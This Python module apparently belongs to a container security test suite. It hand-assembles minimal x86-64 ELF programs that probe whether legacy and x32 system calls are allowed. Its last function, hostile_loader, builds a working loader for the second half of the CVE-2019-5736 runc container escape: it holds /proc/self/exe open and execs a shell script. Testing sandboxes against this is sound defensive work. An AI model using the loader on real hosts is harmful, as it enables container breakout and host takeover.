"""Tiny static x86-64 programs made without a compiler, for doors that only machine code can try.

Holds: `program(code, data)` and the few programs the security tests use. Register and call numbers are those of
the x86-64 and i386 System V ABIs; each program says by its exit status what happened.
"""

from __future__ import annotations

import struct

BASE = 0x400000
HEADER = 64 + 56
EXIT = b"\x89\xc7\xb8\x3c\x00\x00\x00\x0f\x05"  # mov edi, eax; mov eax, 60; syscall


def program(code: bytes, data: bytes = b"", *, shared: bool = False) -> bytes:
    """An ELF file with one read-execute segment that holds code, then data (`shared`: position independent)."""
    base = 0 if shared else BASE
    size = HEADER + len(code) + len(data)
    ident = b"\x7fELF\x02\x01\x01" + bytes(9)
    header = ident + struct.pack(
        "<HHIQQQIHHHHHH", 3 if shared else 2, 62, 1, base + HEADER, 64, 0, 0, 64, 56, 1, 0, 0, 0
    )
    segment = struct.pack("<IIQQQQQQ", 1, 5, 0, base, base, size, size, 0x1000)
    return header + segment + code + data


def _report_errno() -> bytes:
    """Exit 0 if eax is not negative, otherwise with -eax (the errno)."""
    # xor edi, edi; test eax, eax; jns +4; neg eax; mov edi, eax; mov eax, 60; syscall
    return b"\x31\xff\x85\xc0\x79\x04\xf7\xd8\x89\xc7\xb8\x3c\x00\x00\x00\x0f\x05"


def int80(number: int = 20) -> bytes:
    """A 32-bit call through `int 0x80` (20 is getpid): exit 0 if it worked, otherwise its errno, or a signal."""
    return program(b"\xb8" + struct.pack("<I", number) + b"\xcd\x80" + _report_errno())


def x32(number: int = 39) -> bytes:
    """A call with the x32 bit set (39 is getpid): exit 0 if it worked, otherwise its errno, or a signal."""
    return program(b"\xb8" + struct.pack("<I", 0x40000000 | number) + b"\x0f\x05" + _report_errno())


def syscall(number: int, *arguments: int) -> bytes:
    """One plain 64-bit call with up to four small integer arguments: exit 0 or its errno."""
    loads = [b"\xbf", b"\xbe", b"\xba", b"\x41\xba"]  # edi, esi, edx, r10d
    code = b"".join(load + struct.pack("<I", value) for load, value in zip(loads, arguments, strict=False))
    return program(code + b"\xb8" + struct.pack("<I", number) + b"\x0f\x05" + _report_errno())


def hostile_loader(script: str) -> bytes:
    """CVE-2019-5736's second half: a dynamic loader that keeps /proc/self/exe open and becomes a shell.

    open("/proc/self/exe", O_RDONLY) is left at descriptor 3 (or the next free one; the script looks at all), then
    execve("/bin/sh", ["sh", "-c", script], []). Position independent: the kernel maps a loader anywhere.
    """
    strings = [b"/proc/self/exe\0", b"/bin/sh\0", b"-c\0", script.encode() + b"\0"]

    def lea(register: bytes, displacement: int) -> bytes:
        return b"\x48\x8d" + register + struct.pack("<i", displacement)  # lea r64, [rip + disp32]

    # Two passes: the code's length does not depend on the displacements.
    def code(length: int) -> bytes:
        starts, offset = [], length
        for text in strings:
            starts.append(offset)
            offset += len(text)
        out = b""

        def address(register: bytes, index: int) -> None:
            nonlocal out
            out += lea(register, starts[index] - (len(out) + 7))

        address(b"\x3d", 0)  # rdi
        out += b"\x31\xf6\xb8\x02\x00\x00\x00\x0f\x05"  # esi = 0; open
        out += b"\x6a\x00"  # push 0: end of argv
        for index in (3, 2, 1):
            address(b"\x05", index)  # rax
            out += b"\x50"  # push rax
        out += b"\x48\x89\xe6"  # rsi = rsp: argv
        address(b"\x3d", 1)
        out += b"\x31\xd2\xb8\x3b\x00\x00\x00\x0f\x05"  # edx = 0; execve
        return out + EXIT

    return program(code(len(code(0))), b"".join(strings), shared=True)
